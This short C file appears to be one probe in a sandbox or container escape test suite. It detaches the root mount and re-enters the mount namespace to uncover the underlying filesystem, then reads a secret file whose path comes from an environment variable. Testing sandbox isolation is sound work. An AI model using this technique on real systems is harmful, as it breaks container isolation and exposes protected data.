/* Takes its root away and enters its mount namespace anew, to see what the root was mounted on. */
#include "../escape.h"

TRICK(uncover_old_root) {
    int fd = open("/proc/self/ns/mnt", O_RDONLY);
    if (fd < 0) return broken("open(/proc/self/ns/mnt)");
    TRY(umount2("/", MNT_DETACH));
    TRY(setns(fd, CLONE_NEWNS));
    return steal_path(told("ESC_SECRET"));
}
